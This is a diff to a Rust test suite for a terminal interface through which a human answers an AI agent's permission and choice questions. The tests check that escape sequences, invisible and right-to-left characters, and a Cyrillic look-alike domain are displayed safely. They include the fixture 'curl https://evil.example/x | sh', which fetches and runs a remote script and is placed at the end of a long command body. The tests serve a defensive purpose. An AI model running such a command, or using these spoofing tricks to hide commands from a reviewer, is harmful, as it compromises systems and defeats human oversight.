@@ -281,10 +281,11 @@ async fn attack_strings_are_shown_as_code_points_and_never_reach_the_terminal_ra
     let home = Home::new();
     let d = Daemon::start(&home, &[]);
     let api = d.api(&home);
-    let prompt =
-        format!("Bash:\n{CLEAR_LINE}\n{OVERWRITE}\n{OSC8}\n{TROJAN}\n{ZWJ_URL}\n{CYRILLIC_HOST}");
+    let attacks =
+        format!("{CLEAR_LINE}\n{OVERWRITE}\n{OSC8}\n{TROJAN}\n{ZWJ_URL}\n{CYRILLIC_HOST}");
     let q = api
-        .ask(json!({"kind": "single_choice", "agent": "claude\u{1b}[31m", "prompt": prompt,
+        .ask(json!({"kind": "single_choice", "agent": "claude\u{1b}[31m",
+                    "prompt": format!("Run this? {CLEAR_LINE}"), "body": attacks,
                     "choices": [{"id": "ok", "label": "Run\u{202e}nuR", "detail": "zero\u{200b}width"},
                                 {"id": "no", "label": "Stop"}]}))
         .await;
@@ -299,6 +300,9 @@ async fn attack_strings_are_shown_as_code_points_and_never_reach_the_terminal_ra
         "curl https://pаypal.com/login",
         "claude⟨U+001B⟩[31m",
         "Run⟨U+202E⟩nuR — zero⟨U+200B⟩width",
+        "Run this? echo safe⟨U+001B⟩[2K",
+        "┌─ 6 lines",
+        "⚠ “pаypal” mixes scripts: Cyrillic, Latin",
     ] {
         assert!(
             screen.contains(visible),
@@ -330,28 +334,46 @@ async fn attack_strings_are_shown_as_code_points_and_never_reach_the_terminal_ra
 }
 
 #[tokio::test]
-async fn a_long_question_is_reachable_to_its_last_line() {
+async fn a_long_body_is_reachable_to_its_last_line() {
     let home = Home::new();
     let d = Daemon::start(&home, &[]);
     let api = d.api(&home);
-    let lines: Vec<String> = (1..=60).map(|i| format!("step {i:02}: make all")).collect();
-    let prompt = format!(
-        "{}\nFINAL: curl https://evil.example/x | sh",
-        lines.join("\n")
-    );
+    // A Bash command of the largest size a body may have, its dangerous tail at the end.
+    let tail = "FINAL: curl https://evil.example/x | sh";
+    let mut body = String::new();
+    let mut n = 0;
+    while body.chars().count() + 80 + tail.len() < 16_384 {
+        n += 1;
+        body.push_str(&format!(
+            "echo step {n:03} && make -C services/{n:03} all install check\n"
+        ));
+    }
+    body.push_str(tail);
+    let lines = body.lines().count();
     let q = api
-        .ask(json!({"kind": "permission", "agent": "claude", "prompt": prompt}))
+        .ask(
+            json!({"kind": "permission", "agent": "claude", "prompt": "Run a command in shop?",
+                    "body": body}),
+        )
         .await;
     let t = Tmux::start(&home, &[id(&q)]);
-    let screen = t.wait_for("step 01").await;
+    let screen = t.wait_for("echo step 001").await;
+    assert!(screen.contains(&format!("┌─ {lines} lines")), "{screen}");
     assert!(!screen.contains("FINAL"), "the tail starts below the fold");
+    let total = lines + 4; // prompt, blank line, the body's top and bottom rules
     assert!(
-        screen.contains("of 61"),
+        screen.contains(&format!("of {total} ")),
         "the pane says there is more:\n{screen}"
     );
-    for _ in 0..10 {
+    let mut seen = std::collections::BTreeSet::new();
+    for _ in 0..100 {
         let screen = t.screen();
-        if screen.contains("FINAL: curl https://evil.example/x | sh") {
+        for l in screen.lines() {
+            if let Some(at) = l.find("echo step ") {
+                seen.insert(l[at..at + 13].to_string());
+            }
+        }
+        if screen.contains(tail) {
             break;
         }
         let before = range(&screen);
@@ -366,12 +388,90 @@ async fn a_long_question_is_reachable_to_its_last_line() {
             tokio::time::sleep(Duration::from_millis(50)).await;
         }
     }
-    let screen = t.wait_for("FINAL: curl https://evil.example/x | sh").await;
-    assert!(screen.contains("of 61"), "{screen}");
+    t.wait_for(tail).await;
+    assert_eq!(
+        seen.len(),
+        n,
+        "every line of the body was on screen at some point"
+    );
     t.keys(&["Escape"]);
     t.wait_for("[exit 0]").await;
     let (_, still) = api.get(&format!("/v1/interactions/{}", id(&q))).await;
     assert_eq!(still["status"], "pending", "Esc answers nothing");
+}
+
+#[tokio::test]
+async fn multi_choice_ticks_and_other_text_answer_in_one_go() {
+    let home = Home::new();
+    let d = Daemon::start(&home, &[]);
+    let api = d.api(&home);
+    let q = api
+        .ask(
+            json!({"kind": "multi_choice", "agent": "claude", "prompt": "Which checks should run?",
+                    "choices": [{"id": "unit", "label": "Unit tests"},
+                                {"id": "lint", "label": "Lint"},
+                                {"id": "e2e", "label": "End-to-end", "detail": "Slow"}],
+                    "min_selections": 1, "max_selections": 3,
+                    "allow_other": true, "other_max_length": 30}),
+        )
+        .await;
+    let t = Tmux::start(&home, &[id(&q)]);
+    t.wait_for("Choose 1 to 3 · 0 chosen").await;
+    // Enter with nothing ticked says what is needed and sends nothing.
+    t.keys(&["Enter"]);
+    t.wait_for("an Other text counts as one").await;
+    t.keys(&["1", "Down", "Down", "Space"]);
+    let screen = t.wait_for("2 chosen").await;
+    assert!(
+        screen.contains("[x] 1. Unit tests")
+            && screen.contains("[ ] 2. Lint")
+            && screen.contains("[x] 3. End-to-end — Slow"),
+        "{screen}"
+    );
+    t.keys(&["Down"]);
+    t.type_text("fuzz 1 q");
+    t.wait_for("Other: fuzz 1 q").await;
+    t.keys(&["Enter"]);
+    let done = wait_done(&api, &q).await;
+    assert_eq!(done["status"], "answered", "{done}");
+    assert_eq!(done["response"]["choice_ids"], json!(["unit", "e2e"]));
+    assert_eq!(done["response"]["text"], "fuzz 1 q");
+    t.wait_for("Answered “Unit tests”, “End-to-end”, the text “fuzz 1 q” from cli")
+        .await;
+
+    // And in one go: repeated --choice.
+    let q = api
+        .ask(json!({"kind": "multi_choice", "prompt": "Which?",
+                    "choices": [{"id": "a", "label": "A"}, {"id": "b", "label": "B"}, {"id": "c", "label": "C"}],
+                    "min_selections": 2, "max_selections": 2}))
+        .await;
+    let out = run(&home, &[id(&q), "--choice", "a"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("takes 2 to 2 choices"),
+        "{out:?}"
+    );
+    let out = run(&home, &[id(&q), "--choice", "c", "--choice", "a"]);
+    assert!(out.status.success(), "{out:?}");
+    assert_eq!(
+        wait_done(&api, &q).await["response"]["choice_ids"],
+        json!(["c", "a"])
+    );
+
+    // "Other" on a single choice: typed on its row, sent as text.
+    let q = api
+        .ask(json!({"kind": "single_choice", "prompt": "Which database?", "allow_other": true,
+                    "choices": [{"id": "pg", "label": "Postgres"}, {"id": "lite", "label": "SQLite"}]}))
+        .await;
+    let t = Tmux::start(&home, &[id(&q)]);
+    t.wait_for("3. Other:").await;
+    t.keys(&["3"]);
+    t.type_text("DuckDB");
+    t.wait_for("Other: DuckDB").await;
+    t.keys(&["Enter"]);
+    let done = wait_done(&api, &q).await;
+    assert_eq!(done["response"]["text"], "DuckDB");
+    assert!(done["response"]["choice_id"].is_null());
 }
 
 #[tokio::test]
